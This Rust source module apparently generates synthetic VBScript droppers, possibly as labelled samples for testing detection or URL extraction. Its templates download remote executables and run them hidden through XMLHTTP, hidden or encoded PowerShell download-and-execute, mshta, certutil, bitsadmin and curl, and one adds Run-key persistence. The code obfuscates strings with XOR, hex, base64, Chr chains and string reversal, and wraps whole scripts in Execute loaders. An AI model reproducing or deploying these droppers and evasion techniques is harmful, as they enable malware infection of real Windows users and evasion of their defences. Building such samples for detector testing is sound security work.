//! Droppers in VBScript.

use super::{Dice, Truth, base64, codes, hex, reversed, wide, xored};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".jpg", ".bin", ".txt", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let quoted = |pieces: &[String]| -> Vec<String> {
        pieces.iter().map(|piece| format!("\"{piece}\"")).collect()
    };
    match dice.below(13) {
        0 => format!("\"{text}\""),
        1 => quoted(&dice.pieces(text)).join(" & "),
        2 => format!("StrReverse(\"{}\")", reversed(text)),
        3 => {
            let words: Vec<String> = text.bytes().map(|byte| format!("Chr({byte})")).collect();
            words.join("&")
        }
        4 => {
            let mark = dice.mark(text);
            format!("Replace(\"{}\", \"{mark}\", \"\")", dice.littered(text, &mark))
        }
        5 => {
            let letters: Vec<String> = text.chars().map(String::from).collect();
            format!("Join(Split(\"{}\", \"|\"), \"\")", letters.join("|"))
        }
        6 => format!("Join(Array({}), \"\")", quoted(&dice.pieces(text)).join(", ")),
        7 => {
            let _ = writeln!(
                before,
                "Function {name}(h)\r\n  Dim i, r\r\n  r = \"\"\r\n  For i = 1 To Len(h) Step 2\r\n    r = r & Chr(CLng(\"&H\" & Mid(h, i, 2)))\r\n  Next\r\n  {name} = r\r\nEnd Function\r"
            );
            format!("{name}(\"{}\")", hex(text.as_bytes()))
        }
        8 => {
            let key = dice.key();
            let _ = writeln!(
                before,
                "Function {name}(a, k)\r\n  Dim x, r\r\n  For Each x In a\r\n    r = r & Chr(x Xor k)\r\n  Next\r\n  {name} = r\r\nEnd Function\r"
            );
            format!("{name}(Array({}), {key})", codes(xored(text, key), ","))
        }
        9 => {
            let shift = dice.below(3) + 1;
            let shifted: String = text
                .bytes()
                .map(|byte| char::from(byte + shift as u8))
                .collect::<String>()
                .replace('"', "\"\"");
            let _ = writeln!(
                before,
                "Function {name}(s)\r\n  Dim i\r\n  For i = 1 To Len(s)\r\n    {name} = {name} & Chr(Asc(Mid(s, i, 1)) - {shift})\r\n  Next\r\nEnd Function\r"
            );
            format!("{name}(\"{shifted}\")")
        }
        10 => {
            let _ = writeln!(
                before,
                "Function {name}(b)\r\n  Dim d, e, s\r\n  Set d = CreateObject(\"MSXML2.DOMDocument\")\r\n  Set e = d.createElement(\"t\")\r\n  e.dataType = \"bin.base64\"\r\n  e.text = b\r\n  Set s = CreateObject(\"ADODB.Stream\")\r\n  s.Type = 1\r\n  s.Open\r\n  s.Write e.nodeTypedValue\r\n  s.Position = 0\r\n  s.Type = 2\r\n  s.Charset = \"us-ascii\"\r\n  {name} = s.ReadText\r\nEnd Function\r"
            );
            format!("{name}(\"{}\")", base64(text.as_bytes()))
        }
        11 => {
            let mut words = Vec::new();
            for piece in dice.pieces(text) {
                let name = dice.name();
                let _ = writeln!(before, "Dim {name}\r\n{name} = \"{piece}\"\r");
                words.push(name);
            }
            words.join(" + ")
        }
        _ => {
            let _ = writeln!(
                before,
                "{name} = \"\"\r\nFor Each c In Split(\"{}\", \" \")\r\n  {name} = {name} & ChrW(CInt(c))\r\nNext\r",
                codes(text.bytes(), " ")
            );
            name
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text = "On Error Resume Next\r\n".to_owned();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    match dice.below(8) {
        0 => {
            let words: Vec<String> = text
                .as_bytes()
                .chunks(60)
                .map(|line| {
                    let words: Vec<String> =
                        line.iter().map(|byte| format!("Chr({byte})")).collect();
                    words.join("&")
                })
                .collect();
            format!(
                "On Error Resume Next\r\nDim x\r\nx = {}\r\nExecute x\r\nWScript.Quit\r\n",
                words.join("\r\nx = x & ")
            )
        }
        1 => format!(
            "Dim s, i, c\r\ns = \"{}\"\r\nFor i = 1 To Len(s) Step 2\r\n  c = c & Chr(\"&h\" & Mid(s, i, 2))\r\nNext\r\nExecuteGlobal c\r\nWScript.Sleep 1\r\n",
            hex(text.as_bytes())
        ),
        2 if !text.contains("Function ") && !text.contains("Class ") => {
            format!("Sub Main\r\n{text}\r\nEnd Sub\r\nOn Error Resume Next\r\nCall Main\r\n")
        }
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(14) {
        0 | 1 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            let http = dice.pick(&[
                "MSXML2.XMLHTTP",
                "Microsoft.XMLHTTP",
                "MSXML2.ServerXMLHTTP.6.0",
                "WinHttp.WinHttpRequest.5.1",
            ]);
            format!(
                "Set {var} = CreateObject(\"{http}\")\r\n{var}.Open \"GET\", {url}, False\r\n{var}.Send\r\nSet st{var} = CreateObject(\"ADODB.Stream\")\r\nst{var}.Type = 1\r\nst{var}.Open\r\nst{var}.Write {var}.responseBody\r\nst{var}.SaveToFile CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\{file}.exe\", 2\r\nst{var}.Close\r\nCreateObject(\"WScript.Shell\").Run CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\{file}.exe\", 0, False\r\n"
            )
        }
        2 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Dim sh{var}\r\nSet sh{var} = CreateObject(\"WScript.Shell\")\r\nsh{var}.Run \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('\" & {url} & \"','C:\\Users\\Public\\{file}.exe')\", 0, True\r\nsh{var}.Run \"C:\\Users\\Public\\{file}.exe\"\r\n"
            )
        }
        3 => {
            let url = truth.url(dice, &[".hta"]);
            let url = hide(dice, &url, before);
            format!("CreateObject(\"WScript.Shell\").Run \"mshta \" & {url}, 0\r\n")
        }
        4 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "{var} = {url}\r\nSet wmi = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\nwmi.Create \"certutil -urlcache -split -f \" & {var} & \" C:\\ProgramData\\{file}.exe\", Null, Null, pid\r\n"
            )
        }
        5 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Function Get{var}(u, p)\r\n  Dim x, s\r\n  Set x = CreateObject(\"MSXML2.XMLHTTP.3.0\")\r\n  x.open \"GET\", u, False\r\n  x.send\r\n  If x.Status = 200 Then\r\n    Set s = CreateObject(\"ADODB.Stream\")\r\n    With s\r\n      .Type = 1\r\n      .Open\r\n      .Write x.responseBody\r\n      .SaveToFile p, 2\r\n      .Close\r\n    End With\r\n  End If\r\n  Get{var} = p\r\nEnd Function\r\nCreateObject(\"Shell.Application\").ShellExecute Get{var}({url}, \"C:\\Users\\Public\\{file}.exe\")\r\n"
            )
        }
        6 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "CreateObject(\"Shell.Application\").ShellExecute \"cmd.exe\", \"/c curl -o %TEMP%\\{file}.exe \" & {url} & \" && %TEMP%\\{file}.exe\", \"\", \"open\", 0\r\n"
            )
        }
        7 => {
            let url = truth.url(dice, &[".txt", ""]);
            let url = hide(dice, &url, before);
            format!(
                "With CreateObject(\"MSXML2.XMLHTTP\")\r\n  .open \"GET\", {url}, False\r\n  .send\r\n  Execute .responseText\r\nEnd With\r\n"
            )
        }
        8 => {
            let url = truth.url(dice, &[".ps1", ".txt"]);
            let line = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
            let code = base64(&wide(&line));
            let code = hide(dice, &code, before);
            format!(
                "Set {var} = CreateObject(\"WScript.Shell\")\r\n{var}.Run \"powershell -nop -w hidden -enc \" & {code}, 0\r\n"
            )
        }
        9 => {
            let urls: Vec<String> =
                (0..2 + dice.below(3)).map(|_| truth.url(dice, FILES)).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, before)).collect();
            format!(
                "{var} = Array({})\r\nFor Each u In {var}\r\n  Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\n  h.Open \"GET\", u, False\r\n  h.Send\r\nNext\r\n",
                words.join(", ")
            )
        }
        10 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            let name = dice.name();
            format!(
                "Dim {name}(2)\r\n{name}(0) = \"MSX\" & \"ML2.\"\r\n{name}(1) = \"XMLH\"\r\n{name}(2) = \"TTP\"\r\nSet {var} = CreateObject({name}(0) & {name}(1) & {name}(2))\r\nCall {var}.Open(\"G\" & \"ET\", {url}, 0)\r\nCall {var}.Send()\r\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet out = fso.CreateTextFile(fso.GetSpecialFolder(2) & \"\\{file}.vbs\", True)\r\nout.Write {var}.responseText\r\nout.Close\r\n"
            )
        }
        11 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Class C{var}\r\n  Public Url\r\n  Public Sub Go()\r\n    Dim h\r\n    Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n    h.Open \"GET\", Url, False\r\n    h.Send\r\n  End Sub\r\nEnd Class\r\nSet {var} = New C{var}\r\n{var}.Url = {url}\r\n{var}.Go\r\n"
            )
        }
        12 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Set {var} = CreateObject(\"WScript.Shell\")\r\n{var}.RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{file}\", \"mshta \" & {url}, \"REG_SZ\"\r\n"
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "Select Case LCase(\"GO\")\r\n  Case \"stop\"\r\n    WScript.Quit\r\n  Case \"go\"\r\n    {var} = {url}\r\nEnd Select\r\nDo While n < 1\r\n  n = n + 1\r\n  CreateObject(\"WScript.Shell\").Exec \"bitsadmin /transfer j /download \" & {var} & \" C:\\Users\\Public\\{file}.exe\"\r\nLoop\r\n"
            )
        }
    }
}
